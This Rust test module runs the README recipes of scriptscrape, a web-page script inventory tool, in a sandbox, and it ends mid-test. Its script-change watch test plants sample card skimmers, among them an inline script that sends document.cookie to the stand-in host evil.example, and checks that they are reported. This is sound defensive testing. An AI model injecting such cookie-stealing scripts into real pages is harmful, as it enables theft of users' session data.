//! The README's recipes, run as written.
//!
//! The fenced ```sh and ```cron blocks, the shell script of the ```yaml
//! Kubernetes Job, the command pipelines quoted inline and the ```json stats
//! examples (and the ```csv output examples) are read from README.md itself
//! at test time, so a recipe edited into something that does not work fails
//! here.
//! [`every_recipe_is_covered`] makes sure no block goes untested.
//!
//! They run in a sandbox that stands for a fresh machine:
//!
//! - a directory holding `scriptscrape` (a symlink to the binary cargo
//!   built for these tests) and a stub `mail` that appends its arguments and
//!   standard input to a file, first on `PATH`;
//! - an environment as small as cron's (`HOME`, `PATH`, `SHELL`, `LOGNAME`),
//!   so nothing of the developer's shell (proxies, `SCRIPTSCRAPE_*`) leaks in;
//! - commands run by `/bin/sh -c`, as cron runs them (on Debian that is
//!   dash, which also catches bashisms), in `HOME`, bounded in time.
//!
//! Only the deployment-specific bits are substituted, each one checked to be
//! in the recipe (so a substitution that stops matching fails rather than
//! silently running something else):
//!
//! | in README | in the test |
//! |---|---|
//! | `/srv/inventory`, `/srv/pci` | the sandbox's work directory |
//! | `/usr/local/bin` in a crontab's `PATH=` line | the directory with `scriptscrape` and `mail` |
//! | `https://shop.example/` in the setup block | `http://127.0.0.1:PORT/page/` of the test server |
//! | `/data/urls.txt`, `/out/` in the Kubernetes Job | `urls.txt` and the work directory |
//! | `cargo run --release --` | `scriptscrape`: building a release binary inside `cargo test` would take minutes, so the binary already built for the tests stands in |
//!
//! Lists of real sites (`urls.txt`, `pages.txt`, `seeds.txt`) are written
//! with loopback URLs instead, except in [`quick_start_without_internet`],
//! which reads the repository's own `urls.txt` through a dead proxy on
//! 127.0.0.1: the "machine without internet access" the README describes.
//! Nothing here talks to anything but 127.0.0.1.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::Value;

use crate::support::{Run, Table, TestServer, refused_url, wait_within};

/// A fenced block of README.md.
struct Block {
    lang: String,
    /// The `##`/`###` heading it sits under, without the hashes.
    section: String,
    text: String,
}

fn readme() -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md");
    std::fs::read_to_string(&path).expect("README.md")
}

fn blocks() -> Vec<Block> {
    let readme = readme();
    let mut out = Vec::new();
    let mut section = String::new();
    let mut open: Option<Block> = None;
    for line in readme.lines() {
        if let Some(block) = open.as_mut() {
            if line.trim_end() == "```" {
                out.extend(open.take());
            } else {
                block.text.push_str(line);
                block.text.push('\n');
            }
        } else if let Some(lang) = line.strip_prefix("```") {
            open = Some(Block {
                lang: lang.trim().to_owned(),
                section: section.clone(),
                text: String::new(),
            });
        } else if line.starts_with("## ") || line.starts_with("### ") {
            section = line.trim_start_matches('#').trim().to_owned();
        }
    }
    assert!(open.is_none(), "README.md ends inside a fenced block");
    out
}

/// The blocks of `lang` under the heading that starts with `section`.
fn blocks_in(section: &str, lang: &str) -> Vec<String> {
    let found: Vec<String> = blocks()
        .into_iter()
        .filter(|b| b.section.starts_with(section) && b.lang == lang)
        .map(|b| b.text)
        .collect();
    assert!(!found.is_empty(), "no ```{lang} block under {section:?}");
    found
}

/// Inline code spans of README.md (outside fenced blocks) that are command
/// pipelines.
fn inline_pipelines() -> Vec<String> {
    let mut prose = String::new();
    let mut fenced = false;
    for line in readme().lines() {
        if line.starts_with("```") {
            fenced = !fenced;
        } else if !fenced {
            prose.push_str(line);
            prose.push('\n');
        }
    }
    prose
        .split('`')
        .skip(1)
        .step_by(2)
        .filter(|span| span.contains("scriptscrape") && span.contains(" | "))
        .map(str::to_owned)
        .collect()
}

/// Replaces `from` with `to`, insisting that `from` is there.
fn substitute(text: &str, from: &str, to: &str) -> String {
    assert!(
        text.contains(from),
        "the recipe no longer contains {from:?}, which the test substitutes:\n{text}"
    );
    text.replace(from, to)
}

/// What a command run in the sandbox did.
struct Ran {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

impl Ran {
    /// What cron would mail to the crontab's owner.
    fn printed(&self) -> String {
        format!("{}{}", self.stdout, self.stderr)
    }
}

/// A fresh machine with scriptscrape installed, and a mail stub.
struct Sandbox {
    /// Its directory holds `home/` (HOME, and /srv/inventory), `bin/`
    /// and the stub's `mail.log`.
    run: Run,
    /// `PATH` of its commands: the sandbox's bin first, as after an
    /// install, until a crontab sets its own.
    path: String,
    /// The other `NAME=value` lines of a crontab.
    env: Vec<(String, String)>,
}

impl Sandbox {
    fn new() -> Sandbox {
        let run = Run::new();
        let bin = run.path("bin");
        std::fs::create_dir_all(&bin).expect("bin dir");
        std::fs::create_dir_all(run.path("home")).expect("home dir");
        std::os::unix::fs::symlink(env!("CARGO_BIN_EXE_scriptscrape"), bin.join("scriptscrape"))
            .expect("symlink the binary");
        let log = run.path("mail.log");
        let stub = format!(
            "#!/bin/sh\n# The test's mail(1): records each message, sends nothing.\n\
             {{ echo \"mail $*\"; cat; echo '--- end of mail'; }} >> '{}'\n",
            log.display()
        );
        let mail = bin.join("mail");
        std::fs::write(&mail, stub).expect("write mail stub");
        std::fs::set_permissions(&mail, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .expect("chmod mail stub");
        let path = format!("{}:/usr/bin:/bin", bin.display());
        Sandbox {
            run,
            path,
            env: Vec::new(),
        }
    }

    fn bin(&self) -> PathBuf {
        self.run.path("bin")
    }

    /// The directory that stands for /srv/inventory (and HOME).
    fn home(&self) -> PathBuf {
        self.run.path("home")
    }

    fn file(&self, name: &str) -> PathBuf {
        self.home().join(name)
    }

    /// `text` with /srv/inventory (or the PCI recipe's /srv/pci) in the
    /// sandbox.
    fn localise(&self, text: &str) -> String {
        let dir = if text.contains("/srv/pci") {
            "/srv/pci"
        } else {
            "/srv/inventory"
        };
        substitute(text, dir, &self.home().to_string_lossy())
    }

    /// Writes a URL list into the work directory.
    fn list(&self, name: &str, urls: &[String]) {
        let text: String = urls.iter().map(|u| format!("{u}\n")).collect();
        std::fs::write(self.file(name), text).expect("write list");
    }

    /// Messages the mail stub received since the last call.
    fn take_mail(&self) -> String {
        let log = self.run.path("mail.log");
        let mail = std::fs::read_to_string(&log).unwrap_or_default();
        let _ = std::fs::remove_file(&log);
        mail
    }

    /// Runs `command` with `shell` as cron would: in HOME, with cron's
    /// small environment plus `env`, bounded to 60 s.
    fn sh_with(&self, shell: &[&str], command: &str, env: &[(String, String)]) -> Ran {
        let out_path = self.run.path("stdout");
        let err_path = self.run.path("stderr");
        let mut cmd = Command::new(shell[0]);
        cmd.args(&shell[1..])
            .arg(command)
            .current_dir(self.home())
            .env_clear()
            .env("HOME", self.home())
            .env("LOGNAME", "cron")
            .env("SHELL", "/bin/sh")
            .env("PATH", &self.path)
            .stdin(Stdio::null())
            .stdout(std::fs::File::create(&out_path).expect("stdout file"))
            .stderr(std::fs::File::create(&err_path).expect("stderr file"));
        for (k, v) in self.env.iter().chain(env) {
            cmd.env(k, v);
        }
        let mut child = cmd.spawn().expect("start the shell");
        let status = wait_within(&mut child, Duration::from_secs(60))
            .unwrap_or_else(|| panic!("{command}\ndid not end within 60 s"));
        Ran {
            code: status.code(),
            stdout: std::fs::read_to_string(&out_path).expect("read stdout"),
            stderr: std::fs::read_to_string(&err_path).expect("read stderr"),
        }
    }

    fn sh(&self, command: &str) -> Ran {
        self.sh_with(&["/bin/sh", "-c"], command, &[])
    }

    /// Reads a crontab: its `NAME=value` lines become the environment of
    /// its jobs (a `PATH` pointing to /usr/local/bin is pointed at the
    /// sandbox's bin instead), and each job's command is returned.
    fn crontab(&mut self, block: &str) -> Vec<String> {
        // Cron's own PATH (Debian's, and Vixie cron's default), where a
        // crontab does not set one: scriptscrape and mail are not on it.
        self.path = "/usr/bin:/bin".to_owned();
        let mut jobs = Vec::new();
        for line in block.lines() {
            let line = line.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            if let Some(path) = line.strip_prefix("PATH=") {
                self.path = substitute(path, "/usr/local/bin", &self.bin().to_string_lossy());
                continue;
            }
            if let Some((name, value)) = line.split_once('=')
                && !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            {
                self.env.push((name.to_owned(), value.to_owned()));
                continue;
            }
            let command = schedule_stripped(line);
            // cron turns an unescaped % into a newline: a recipe with one
            // would not run as written.
            assert!(!command.contains('%'), "a % in a crontab line: {command}");
            jobs.push(self.localise(command));
        }
        jobs
    }
}

/// The command of a crontab line: what follows its five time fields.
fn schedule_stripped(line: &str) -> &str {
    let mut rest = line;
    for _ in 0..5 {
        let field_end = rest
            .find(char::is_whitespace)
            .unwrap_or_else(|| panic!("not a crontab line: {line}"));
        rest = rest[field_end..].trim_start();
    }
    rest
}

/// The checkout page the watch recipe guards, with a first-party and a
/// third-party script, and `{night}`: filler that is not a script, so that
/// the page report's `bytes` tells which night's run the baseline is.
const CHECKOUT: &str = r#"<!doctype html><html><head>
<script src="/js/app.js"></script>
<script src="https://cdn.payments.example/pay.js"></script>
</head><body><p>{night}</p><script>window.cart = 1;</script></body></html>"#;

/// The skimmers of the night they come: a third-party file, and an inline
/// script and a first-party file, the kinds `--only-third-party` passes
/// over.
const SKIMMER: &str = r#"<script src="https://evil2.example/skim2.js"></script>"#;
const INLINE_SKIMMER: &str =
    r#"<script>fetch("https://evil.example/steal?"+document.cookie)</script>"#;
const FIRST_PARTY_SKIMMER: &str = r#"<script src="/skimmer.js"></script>"#;

#[test]
fn watch_recipe_mails_changes_and_moves_the_baseline_only_after_a_good_scrape() {
    let server = TestServer::start();
    server.set_page("cart", "<script src=/js/cart.js></script>");
    let checkout_url = server.url("/page/checkout");
    // Night n's checkout page, with `extra` scripts before </body>.
    let checkout = |n: usize, extra: &str| {
        CHECKOUT
            .replace("{night}", &"x".repeat(n))
            .replace("</body>", &format!("{extra}</body>"))
    };
    let mut sandbox = Sandbox::new();

    let setup = &blocks_in("Watch your pages", "sh")[0];
    let setup = substitute(
        &sandbox.localise(setup),
        "https://shop.example/",
        &server.url("/page/"),
    );
    let ran = sandbox.sh(&setup);
    assert_eq!(ran.code, Some(0), "setup failed: {}", ran.printed());
    assert!(sandbox.file("allowed.txt").exists());

    // Every job of the crontab, in its order, makes a night; what they
    // print is what cron mails to the crontab's owner.
    let jobs = sandbox.crontab(&blocks_in("Watch your pages", "cron")[0]);
    assert!(!jobs.is_empty(), "no job in the crontab");
    let night = || {
        let mut printed = String::new();
        for job in &jobs {
            let ran = sandbox.sh(job);
            printed.push_str(&ran.printed());
        }
        (printed, sandbox.take_mail())
    };
    // Which night's run the baseline is, from its checkout page's size.
    let baseline = || {
        let pages = Table::read(&sandbox.file("last-pages.csv"));
        let bytes: usize = pages
            .for_page(&checkout_url, "bytes")
            .parse()
            .expect("bytes");
        let scripts = std::fs::read(sandbox.file("last.csv")).expect("last.csv");
        (bytes, scripts)
    };
    let is_night = |n: usize, extra: &str| checkout(n, extra).len();
    let subject = "mail -s scripts changed on checkout pages sec@example.com\n";

    // Night 0: the server is down on the first night: no baseline is made
    // of a failed run, and a line says so, which cron mails.
    server.set_page("checkout", &checkout(0, ""));
    server.set_down(true);
    let (printed, mail) = night();
    server.set_down(false);
    assert_eq!(printed.lines().count(), 1, "night 0: {printed:?}");
    assert!(printed.contains("no baseline"), "night 0: {printed}");
    assert_eq!(mail, "", "night 0 sent mail");
    assert!(
        !sandbox.file("last.csv").exists(),
        "a failed run became the baseline"
    );

    // Night 1: no baseline yet; the run becomes it, silently.
    server.set_page("checkout", &checkout(1, ""));
    let (printed, mail) = night();
    assert_eq!(printed, "", "night 1 printed (cron mails it)");
    assert_eq!(mail, "", "night 1 sent mail");
    assert_eq!(baseline().0, is_night(1, ""), "night 1 is not the baseline");
    assert!(!sandbox.file("today.csv").exists());

    // Night 2: nothing changed: nothing printed, nothing mailed, and the
    // baseline is tonight's run.
    server.set_page("checkout", &checkout(2, ""));
    let (printed, mail) = night();
    assert_eq!(printed, "", "night 2 printed (cron mails it)");
    assert_eq!(mail, "", "night 2 mailed with no change");
    assert_eq!(baseline().0, is_night(2, ""), "the baseline did not move");
    assert!(!sandbox.file("today.csv").exists());
    let good = baseline();

    // Night 3: the server is down. The failed pages are mailed as
    // `unknown`, and the failed run does not become the baseline.
    server.set_down(true);
    let (printed, mail) = night();
    server.set_down(false);
    assert_eq!(printed, "", "night 3 printed besides the mail");
    assert!(mail.starts_with(subject), "night 3 mail: {mail:?}");
    assert!(mail.contains("unknown"), "night 3 mail: {mail}");
    assert_eq!(mail.matches("--- end of mail").count(), 1, "{mail}");
    assert!(
        baseline() == good,
        "the run of a night whose pages failed became the baseline"
    );

    // Night 4: the server is back, and the checkout page has a third-party
    // skimmer and an injected inline script, the cart page a first-party
    // one: all are mailed (compared with night 2, the last good run), and
    // tonight's run is the baseline.
    let skimmed = format!("{SKIMMER}{INLINE_SKIMMER}");
    server.set_page("checkout", &checkout(4, &skimmed));
    server.set_page(
        "cart",
        &format!("<script src=/js/cart.js></script>{FIRST_PARTY_SKIMMER}"),
    );
    let (printed, mail) = night();
    assert_eq!(printed, "", "night 4 printed besides the mail");
    assert!(mail.starts_with(subject), "night 4 mail: {mail:?}");
    assert_eq!(mail.matches("--- end of mail").count(), 1, "{mail}");
    assert_eq!(
        baseline().0,
        is_night(4, &skimmed),
        "the baseline did not move"
    );
    let scripts = Table::read(&sandbox.file("last.csv"));
    let inline: Vec<&str> = scripts
        .rows_where("page_url", &checkout_url)
        .into_iter()
        .map(|row| scripts.get(row, "inline_sha256"))
        .filter(|hash| !hash.is_empty())
        .collect();
    let [_, injected] = inline[..] else {
        panic!("expected two inline scripts on the checkout page: {inline:?}");
    };
    for (what, needle) in [
        ("the third-party skimmer", "https://evil2.example/skim2.js"),
        ("the inline script", injected),
        ("the first-party script", "/skimmer.js"),
    ] {
        let line = mail
            .lines()
            .find(|l| l.contains(needle))
            .unwrap_or_else(|| panic!("the mail does not name {what} ({needle}): {mail}"));
        assert!(line.contains("unapproved"), "{what}: {line}\n{mail}");
    }
    assert!(!mail.contains("unknown"), "night 4 mail: {mail}");

    // Night 5: nothing changed since night 4: silent, and the baseline
    // moves on.
    server.set_page("checkout", &checkout(5, &skimmed));
    let (printed, mail) = night();
    assert_eq!(printed, "", "night 5 printed (cron mails it)");
    assert_eq!(mail, "", "night 5 mailed with no change");
    assert_eq!(
        baseline().0,
        is_night(5, &skimmed),
        "the baseline did not move"
    );
    assert!(!sandbox.file("today.csv").exists());

    // Night 6: a comparison that cannot run (allowed.txt gone) says why in
    // one line, which cron mails; the baseline stays.
    std::fs::remove_file(sandbox.file("allowed.txt")).expect("remove allowed.txt");
    let before = baseline();
    server.set_page("checkout", &checkout(6, &skimmed));
    let (printed, mail) = night();
    assert_eq!(printed.lines().count(), 1, "night 6: {printed}");
    assert!(printed.contains("allowed.txt"), "{printed}");
    assert_eq!(mail, "", "night 6 mailed changes.txt");
    assert!(
        baseline() == before,
        "the baseline moved after a failed comparison"
    );
}

#[test]
fn cron_job_is_silent_when_all_is_well_and_mails_failures() {
    let server = TestServer::start();
    server.set_page("a", "<script src=/a.js></script>");
    let mut sandbox = Sandbox::new();
    let jobs = sandbox.crontab(&blocks_in("Run it from cron", "cron")[0]);
    let [job] = &jobs[..] else {
        panic!("expected one job: {jobs:?}");
    };
    // pages.txt, the list the README says the directory holds.
    let pages: Vec<String> = (0..3).map(|n| server.url(&format!("/gen/{n}"))).collect();
    sandbox.list("pages.txt", &pages);

    let ran = sandbox.sh(job);
    assert_eq!(ran.code, Some(0), "{}", ran.printed());
    assert_eq!(ran.printed(), "", "a good night printed (cron mails it)");
    assert_eq!(sandbox.take_mail(), "", "a good night sent mail");
    // -q: the log holds fatal errors only, so it stays empty.
    let log = std::fs::read_to_string(sandbox.file("scriptscrape.log")).expect("the log");
    assert_eq!(log, "", "a good night logged");
    assert_eq!(Table::read(&sandbox.file("report.csv")).rows.len(), 3);
    assert!(sandbox.file("scripts.csv").exists());
    let stats: Value =
        serde_json::from_slice(&std::fs::read(sandbox.file("stats.json")).expect("stats.json"))
            .expect("stats JSON");
    assert_eq!(stats["exit_status"], 0);

    // Last night's run still holds the lock: exit 75, nothing said.
    {
        let held = std::fs::File::create(sandbox.file("scripts.csv.lock")).expect("lock file");
        held.lock().expect("take the lock");
        let ran = sandbox.sh(job);
        assert_eq!(ran.code, Some(0), "{}", ran.printed());
        assert_eq!(ran.printed(), "", "a held lock printed");
        assert_eq!(sandbox.take_mail(), "", "a held lock sent mail");
    }

    // One page of three failing is more than 2 %: mailed.
    let mut pages = pages;
    pages.push(server.url("/status/404"));
    sandbox.list("pages.txt", &pages);
    let ran = sandbox.sh(job);
    assert_eq!(
        ran.printed(),
        "",
        "a failing night printed besides the mail"
    );
    assert_eq!(
        sandbox.take_mail(),
        "mail -s script inventory ops@example.com\nscriptscrape exit 1\n--- end of mail\n"
    );
}

#[test]
fn quick_start_without_internet() {
    let recipes = blocks_in("Quick start", "sh");
    let [run, test] = &recipes[..] else {
        panic!("expected two Quick start blocks: {recipes:?}")
    };
    // Running this test is running the second block.
    assert_eq!(test.trim(), "cargo test");
    let command = substitute(run, "cargo run --release --", "scriptscrape");

    // The repository's urls.txt, on a machine whose only way out is a
    // proxy that refuses connections: every site fails cleanly, exit 1.
    let sandbox = Sandbox::new();
    std::fs::copy(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("urls.txt"),
        sandbox.file("urls.txt"),
    )
    .expect("copy urls.txt");
    let dead = refused_url();
    let proxies: Vec<(String, String)> = ["HTTP_PROXY", "HTTPS_PROXY"]
        .iter()
        .map(|k| (k.to_string(), dead.clone()))
        .collect();
    let ran = sandbox.sh_with(&["/bin/sh", "-c"], &command, &proxies);
    assert_eq!(ran.code, Some(1), "{}", ran.printed());
    let pages = Table::read(&sandbox.file("pages.csv"));
    let listed = std::fs::read_to_string(sandbox.file("urls.txt"))
        .expect("urls.txt")
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .count();
    assert_eq!(pages.rows.len(), listed);
    // Every site failed at the dead proxy, so nothing left 127.0.0.1 (not
    // even a DNS query: through a proxy, the proxy resolves names).
    assert_eq!(pages.column("error"), vec!["connect"; listed]);
    for detail in pages.column("error_detail") {
        assert!(
            detail.contains(&format!("proxy {dead}"))
                || detail.contains(&format!("proxy {}", dead.trim_end_matches('/'))),
            "not through the proxy: {detail}"
        );
    }

    // The same command on a list of reachable (loopback) pages succeeds.
    let server = TestServer::start();
    let sandbox = Sandbox::new();
    sandbox.list("urls.txt", &[server.url("/gen/1"), server.url("/gen/2")]);
    let ran = sandbox.sh(&command);
    assert_eq!(ran.code, Some(0), "{}", ran.printed());
    assert_eq!(Table::read(&sandbox.file("pages.csv")).rows.len(), 2);
    assert!(!Table::read(&sandbox.file("scripts.csv")).rows.is_empty());
}

#[test]
fn inline_pipelines_run() {
    let server = TestServer::start();
    let sandbox = Sandbox::new();
    // all-urls.txt for the Input example (two shop pages of three), and
    // urls.txt long enough that `| head` closes the pipe early.
    sandbox.list(
        "all-urls.txt",
        &[
            server.url("/gen/1?shop"),
            server.url("/gen/2"),
            server.url("/gen/3?shop"),
        ],
    );
    let many: Vec<String> = (0..200).map(|n| server.url(&format!("/gen/{n}"))).collect();
    sandbox.list("urls.txt", &many);

    let pipelines = inline_pipelines();
    let mut seen = Vec::new();
    for pipeline in &pipelines {
        // pipefail: the README states scriptscrape's own status in a pipe.
        let ran = sandbox.sh_with(&["/bin/bash", "-o", "pipefail", "-c"], pipeline, &[]);
        assert_eq!(ran.code, Some(0), "{pipeline}: {}", ran.printed());
        if pipeline.starts_with("grep shop all-urls.txt") {
            let scripts = Table::read(&sandbox.file("scripts.csv"));
            let mut pages = scripts.column("page_url");
            pages.dedup();
            assert_eq!(pages.len(), 2, "{pipeline}: not the shop pages: {pages:?}");
            assert!(pages.iter().all(|p| p.ends_with("?shop")), "{pages:?}");
        } else if pipeline.ends_with("| head") {
            assert_eq!(ran.stdout.lines().count(), 10, "{pipeline}");
        } else if pipeline.contains("man -l -") {
            assert!(ran.stdout.contains("scriptscrape"), "{pipeline}");
        } else {
            panic!("an inline pipeline this test does not know: {pipeline}");
        }
        seen.push(pipeline.as_str());
    }
    assert_eq!(seen.len(), 3, "inline pipelines: {pipelines:?}");
}

#[test]
fn crawl_example_runs() {
    let server = TestServer::start();
    server.set_page(
        "home",
        r#"<script src="/app.js"></script>
        <a href="/page/about?utm_source=mail">about</a><a href="/page/about">again</a>"#,
    );
    server.set_page("about", "<script>about()</script>");
    let sandbox = Sandbox::new();
    sandbox.list("seeds.txt", &[server.url("/page/home")]);
    let ran = sandbox.sh(&blocks_in("Crawling a site", "sh")[0]);
    assert_eq!(ran.code, Some(0), "{}", ran.printed());
    let pages = Table::read(&sandbox.file("pages.csv"));
    // Rows come in completion order: the found page may be written before
    // the seed's row, whose links went out first.
    let mut depths = pages.column("depth");
    depths.sort();
    assert_eq!(depths, ["0", "1"]);
    // --strip-query 'utm_*' made the two links one page.
    assert_eq!(server.hits("/page/about"), 1);
    assert_eq!(Table::read(&sandbox.file("scripts.csv")).rows.len(), 2);
}

#[test]
fn render_example_runs() {
    crate::support::render::require_chromium();
    let server = TestServer::start();
    server.set_page(
        "checkout",
        r#"<script>var s = document.createElement('script');
        s.src = '/js/tag.js'; document.head.appendChild(s);</script>"#,
    );
    server.set_script("tag.js", "window.tagged = 1;", std::time::Duration::ZERO);
    let sandbox = Sandbox::new();
    sandbox.list("urls.txt", &[server.url("/page/checkout")]);
    let ran = sandbox.sh(&blocks_in("Scripts a browser runs (`--render`)", "sh")[0]);
    assert_eq!(ran.code, Some(0), "{}", ran.printed());
    let scripts = Table::read(&sandbox.file("scripts.csv"));
    assert_eq!(scripts.column("origin"), ["static", "inserted"]);
    assert_eq!(scripts.get(1, "src"), server.url("/js/tag.js"));
    let inline = format!("inline:{}", scripts.get(0, "inline_sha256"));
    assert_eq!(scripts.get(1, "initiator"), inline);
    let report = Table::read(&sandbox.file("report.csv"));
    assert_eq!(report.column("error"), [""]);
    assert_eq!(report.column("scripts"), ["2"]);
}

/// A JSON value's shape: objects as their keys, each with the shape of its
/// value; every other value (null included) as null.
fn shape(value: &Value) -> Value {
    match value {
        Value::Object(map) => {
            Value::Object(map.iter().map(|(k, v)| (k.clone(), shape(v))).collect())
        }
        _ => Value::Null,
    }
}

fn keys(value: &Value) -> BTreeMap<String, Value> {
    match shape(value) {
        Value::Object(map) => map.into_iter().collect(),
        other => panic!("not an object: {other}"),
    }
}

#[test]
fn stats_example_has_the_keys_the_binary_writes() {
    let examples = blocks_in("Stats for monitoring", "json");
    let [run_example, crawl_example] = &examples[..] else {
        panic!("expected a run and a crawl example: {examples:?}")
    };
    let run_example: Value = serde_json::from_str(run_example).expect("README stats JSON");
    let crawl_example: Value = serde_json::from_str(crawl_example).expect("README crawl JSON");

    let server = TestServer::start();
    // Links the crawl passes over: a JSON document and a page robots.txt
    // forbids, the two kinds the README example shows.
    server.set_robots(200, "User-agent: *\nDisallow: /page/private\n");
    server.set_page(
        "home",
        r#"<a href="/json">data</a><a href="/page/private">private</a>"#,
    );
    let run = Run::new();
    let list = run.urls(
        "urls.txt",
        &[server.url("/page/home"), server.url("/status/404")],
    );
    let out = run.run(&[&list, "-o", "s.csv", "--stats", "list.json"], None);
    assert_eq!(out.code, 1, "{}", out.stderr);
    let out = run.run(
        &[
            &list,
            "-o",
            "c.csv",
            "--stats",
            "crawl.json",
            "--depth",
            "1",
        ],
        None,
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    let read = |name: &str| -> Value {
        serde_json::from_slice(&std::fs::read(run.path(name)).expect("stats file"))
            .expect("stats JSON")
    };
    assert_eq!(keys(&run_example), keys(&read("list.json")));
    assert_eq!(keys(&crawl_example), keys(&read("crawl.json")["crawl"]));
}

#[test]
fn csv_examples_have_the_binarys_columns() {
    // Not recipes, but what a reader copies a loader from: the example
    // files' headers are the binary's, and every example row is whole.
    let server = TestServer::start();
    let run = Run::new();
    let list = run.urls("urls.txt", &[server.url("/gen/1")]);
    let out = run.run(&[&list, "-o", "s.csv", "--pages", "p.csv"], None);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let examples = [
        ("scripts CSV", Table::read(&run.path("s.csv"))),
        ("page report", Table::read(&run.path("p.csv"))),
    ];
    for (section, real) in examples {
        let example = Table::parse(blocks_in(section, "csv")[0].as_bytes());
        assert_eq!(example.headers, real.headers, "{section}");
        assert!(!example.rows.is_empty(), "{section}");
        for row in &example.rows {
            assert_eq!(row.len(), real.headers.len(), "{section}: {row:?}");
        }
    }
}

#[test]
fn benchmark_recipe_names_the_benchmarks_scenarios() {
    // `cargo bench` itself builds and runs for minutes: not run here. What
    // the recipe says is checked against the benchmark's own usage line,
    // `//! cargo bench --bench pipeline -- [latency|cpu|…|all]`.
    let recipe = &blocks_in("Benchmark", "sh")[0];
    let (command, alternatives) = recipe
        .lines()
        .next()
        .and_then(|l| l.split_once("# or:"))
        .expect("`cargo bench … -- all  # or: a | b` in the recipe");
    let mut documented: Vec<&str> = alternatives.split('|').map(str::trim).collect();
    documented.extend(
        command
            .trim()
            .strip_prefix("cargo bench --bench pipeline -- "),
    );
    documented.sort_unstable();

    let source =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("benches/pipeline.rs"))
            .expect("benches/pipeline.rs");
    let mut usage: Vec<&str> = source
        .lines()
        .find_map(|l| l.strip_prefix("//! cargo bench --bench pipeline -- ["))
        .and_then(|l| l.split(']').next())
        .expect("the benchmark's usage line")
        .split('|')
        .collect();
    usage.sort_unstable();
    assert_eq!(documented, usage);
    for flag in ["--runs", "--python-runs", "--no-python"] {
        assert!(
            recipe.contains(flag) && source.contains(&format!("\"{flag}\"")),
            "{flag}"
        );
    }
}

#[test]
fn every_recipe_is_covered() {
    // Each (section, language) pair below is run or checked by a test in
    // this module; a new recipe elsewhere fails here until it has one.
    let covered = [
        ("Quick start", "sh", 2),
        ("Stats for monitoring (`--stats FILE.json`)", "json", 2),
        ("Run it from cron", "cron", 1),
        ("Crawling a site", "sh", 1),
        ("Watch your pages for script changes", "sh", 1),
        ("Watch your pages for script changes", "cron", 1),
        ("Payment pages and PCI DSS 6.4.3 / 11.6.1", "sh", 1),
        ("Payment pages and PCI DSS 6.4.3 / 11.6.1", "cron", 1),
        ("Benchmark", "sh", 1),
        ("Shards", "sh", 3),
        ("Exporting to a warehouse", "sh", 2),
        ("A shared queue on Redis", "sh", 1),
        ("Scripts a browser runs (`--render`)", "sh", 1),
        ("Scans over HTTP (`scriptscrape serve`)", "sh", 1),
        ("scripts CSV (`-o FILE`, default standard output)", "csv", 1),
        ("page report (`--pages FILE`)", "csv", 1),
    ];
    let mut found: BTreeMap<(String, String), usize> = BTreeMap::new();
    for block in blocks() {
        let runnable = ["sh", "cron", "json", "csv", "bash", "console", "shell"];
        if runnable.contains(&block.lang.as_str()) {
            *found.entry((block.section, block.lang)).or_default() += 1;
        }
    }
    let expected: BTreeMap<(String, String), usize> = covered
        .iter()
        .map(|(s, l, n)| ((s.to_string(), l.to_string()), *n))
        .collect();
    assert_eq!(found, expected);
}

/// The sites of the shard recipes: six loopback addresses, so that each of
/// three shards has some (pinned by the shard vectors).
const SHARD_SITES: [&str; 6] = [
    "127.0.0.1",
    "127.0.0.2",
    "127.0.0.3",
    "127.0.0.4",
    "127.0.0.5",
    "127.0.0.6",
];

/// The one ```sh block under "Shards" that contains `needle`.
fn shard_recipe(needle: &str) -> String {
    let found: Vec<String> = blocks_in("Shards", "sh")
        .into_iter()
        .filter(|b| b.contains(needle))
        .collect();
    let [recipe] = &found[..] else {
        panic!("expected one Shards recipe with {needle:?}: {found:?}")
    };
    recipe.clone()
}

/// A page report or scripts file's rows, `elapsed_ms` left out, sorted.
fn joinable_rows(path: &Path) -> Vec<Vec<String>> {
    crate::support::rows_without(&Table::read(path), &["elapsed_ms"])
}

#[test]
fn shard_recipes_split_and_join_into_the_whole_run() {
    let servers: Vec<TestServer> = SHARD_SITES
        .iter()
        .map(|ip| TestServer::start_on(ip))
        .collect();
    let sandbox = Sandbox::new();
    let urls: Vec<String> = servers
        .iter()
        .enumerate()
        .flat_map(|(i, s)| {
            [
                s.url(&format!("/gen/{i}")),
                s.url(&format!("/gen/{}", i + 10)),
            ]
        })
        .collect();
    sandbox.list("urls.txt", &urls);
    // The last run, for the join recipe's diff: the whole list at once.
    let ran = sandbox.sh("scriptscrape urls.txt -q -o last.csv --pages last-pages.csv");
    assert_eq!(ran.code, Some(0), "{}", ran.printed());
    let join = shard_recipe("awk");
    let outputs = [
        "scripts-1.csv",
        "scripts-2.csv",
        "scripts-3.csv",
        "pages-1.csv",
    ];
    // Joins what the shards wrote and checks it is the whole run.
    let joined = |how: &str| {
        let ran = sandbox.sh(&join);
        assert_eq!(ran.code, Some(0), "{how}, then the join: {}", ran.printed());
        for (joined, whole) in [("scripts.csv", "last.csv"), ("pages.csv", "last-pages.csv")] {
            assert_eq!(
                joinable_rows(&sandbox.file(joined)),
                joinable_rows(&sandbox.file(whole)),
                "{how}: {joined}"
            );
        }
        assert_eq!(Table::read(&sandbox.file("changes.csv")).rows.len(), 0);
        for name in outputs.iter().chain(&["scripts.csv", "pages.csv"]) {
            std::fs::remove_file(sandbox.file(name)).expect("remove an output");
        }
    };

    // One machine: xargs runs the three shards.
    let ran = sandbox.sh(&shard_recipe("xargs"));
    assert_eq!(ran.code, Some(0), "{}", ran.printed());
    assert_eq!(ran.printed(), "", "-q");
    joined("xargs");

    // Slurm: the batch script, once per task of its array.
    let slurm = shard_recipe("#SBATCH");
    assert!(slurm.starts_with("#!/bin/sh\n"), "{slurm}");
    assert!(slurm.contains("#SBATCH --array=1-3\n"), "{slurm}");
    assert!(slurm.contains("--shard \"$k/3\""), "{slurm}");
    for task in 1..=3 {
